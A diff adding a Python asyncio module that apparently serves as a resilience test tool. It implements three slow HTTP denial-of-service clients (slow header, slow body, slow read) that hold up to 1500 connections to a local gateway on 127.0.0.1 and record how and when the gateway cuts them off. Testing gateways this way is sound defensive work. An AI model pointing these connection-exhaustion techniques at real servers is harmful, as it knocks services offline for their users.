@@ -1,0 +1,197 @@
+"""Clients that are slow on purpose: each holds a connection for as long as it is let.
+
+    slow-header  a request's head, a byte at a time, never whole
+    slow-body    a whole head that promises a body, then a byte of it at a time
+    slow-read    a whole request for a long answer, of which a sip is read at a time
+
+The gateway under attack is on 127.0.0.1. An attack ends when every connection has been ended by the
+gateway, and otherwise after its own time.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import re
+import socket
+import time
+from collections import Counter
+from dataclasses import dataclass, field
+from typing import Final, Literal, cast
+
+Kind = Literal["slow-header", "slow-body", "slow-read"]
+
+#: Connections that are being opened at once.
+_OPENERS: Final = 50
+#: How much a slow reader's kernel takes in for it, and how much it reads of that in one turn.
+_RECEIVE_BUFFER: Final = 4096
+_SIP: Final = 1024
+#: A body that would take its client weeks.
+_BODY_BYTES: Final = 1_000_000
+
+_STATUS = re.compile(rb"HTTP/1\.1 ([0-9]{3}) ").match
+
+
+@dataclass(frozen=True, slots=True)
+class Attack:
+    """What is done. every_s: the time between two bytes; key: an API key to show, or ""."""
+
+    kind: Kind
+    port: int
+    connections: int = 1500
+    seconds: float = 30.0
+    every_s: float = 0.5
+    path: str = "/"
+    key: str = ""
+
+    def opening(self) -> bytes:
+        """What each connection sends at once."""
+        method = "POST" if self.kind == "slow-body" else "GET"
+        head = f"{method} {self.path} HTTP/1.1\r\nHost: gateway.test\r\n"
+        if self.key:
+            head += f"Authorization: Bearer {self.key}\r\n"
+        if self.kind == "slow-header":
+            return f"{head}X-Slow: ".encode()
+        if self.kind == "slow-body":
+            return f"{head}Content-Length: {_BODY_BYTES}\r\n\r\n".encode()
+        return f"{head}\r\n".encode()
+
+
+@dataclass(slots=True)
+class Outcome:
+    """What came of it.
+
+    opened, refused: connections that were, and were not, to be had
+    statuses:        what the answers said, by status
+    ended:           connections that the gateway ended, with an answer or without
+    held:            those still open when the attack's time was up
+    lives_s:         how long each of the ended ones lasted
+    """
+
+    opened: int = 0
+    refused: int = 0
+    statuses: Counter[int] = field(default_factory=Counter)
+    ended: int = 0
+    held: int = 0
+    lives_s: list[float] = field(default_factory=list)
+
+    def figures(self) -> dict[str, object]:
+        """As the tool prints it."""
+        lives = sorted(self.lives_s)
+        return {
+            "opened": self.opened,
+            "refused": self.refused,
+            "statuses": {str(status): count for status, count in sorted(self.statuses.items())},
+            "ended": self.ended,
+            "held": self.held,
+            "shortest_life_s": round(lives[0], 2) if lives else None,
+            "longest_life_s": round(lives[-1], 2) if lives else None,
+        }
+
+
+class _SlowClient(asyncio.BufferedProtocol):
+    """One of them. A slow reader's buffer is a sip, so that it never reads more than that."""
+
+    transport: asyncio.Transport
+
+    def __init__(self, attack: Attack, outcome: Outcome) -> None:
+        self._attack = attack
+        self._outcome = outcome
+        self._reads = attack.kind != "slow-read"
+        self._buffer = bytearray(4096 if self._reads else _SIP)
+        self._has_status = False
+        self._since = time.monotonic()
+        self._has_left = False
+        self.ended = asyncio.Event()
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        self.transport = cast(asyncio.Transport, transport)
+        self._outcome.opened += 1
+        self.transport.write(self._attack.opening())
+        if not self._reads:
+            self.transport.pause_reading()
+
+    def get_buffer(self, sizehint: int) -> bytearray:
+        return self._buffer
+
+    def buffer_updated(self, nbytes: int) -> None:
+        status = None if self._has_status else _STATUS(self._buffer[:nbytes])
+        if status is not None:
+            self._has_status = True
+            self._outcome.statuses[int(status[1])] += 1
+        if not self._reads:
+            self.transport.pause_reading()
+
+    def connection_lost(self, exc: Exception | None) -> None:
+        self.ended.set()
+        if not self._has_left:
+            self._outcome.ended += 1
+            self._outcome.lives_s.append(time.monotonic() - self._since)
+
+    def turn(self) -> None:
+        """Send the next byte, or read the next sip."""
+        if self.transport.is_closing():
+            return
+        if self._reads:
+            self.transport.write(b"a")
+        else:
+            self.transport.resume_reading()
+
+    def leave(self) -> None:
+        """Hang up: the attack's time is over."""
+        self._has_left = True
+        self.transport.abort()
+
+
+async def run(attack: Attack) -> Outcome:
+    """Open all connections, keep them busy with next to nothing, and tell what came of it."""
+    outcome = Outcome()
+    clients: list[_SlowClient] = []
+    gate = asyncio.Semaphore(_OPENERS)
+
+    async def hold_one() -> None:
+        client = _SlowClient(attack, outcome)
+        try:
+            async with gate:
+                await _connect(client, attack)
+        except OSError:
+            outcome.refused += 1
+            return
+        clients.append(client)
+        await client.ended.wait()
+
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(attack.seconds), asyncio.TaskGroup() as tasks:
+            ticking = tasks.create_task(_keep_slow(clients, attack.every_s))
+            await asyncio.gather(*(hold_one() for _ in range(attack.connections)))
+            ticking.cancel()
+    for client in clients:
+        if not client.ended.is_set():
+            outcome.held += 1
+            client.leave()
+    return outcome
+
+
+async def _connect(client: _SlowClient, attack: Attack) -> None:
+    loop = asyncio.get_running_loop()
+    connection = socket.socket()
+    try:
+        connection.setblocking(False)
+        if attack.kind == "slow-read":
+            # Before connecting, since it settles the window that is offered.
+            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _RECEIVE_BUFFER)
+        await loop.sock_connect(connection, ("127.0.0.1", attack.port))
+        await loop.create_connection(lambda: client, sock=connection)
+    except BaseException:
+        connection.close()
+        raise
+
+
+async def _keep_slow(clients: list[_SlowClient], every_s: float) -> None:
+    """Give each client a turn in every period; in ten groups, not all in one burst."""
+    group = 0
+    while True:
+        for client in clients[group::10]:
+            client.turn()
+        group = (group + 1) % 10
+        await asyncio.sleep(every_s / 10)
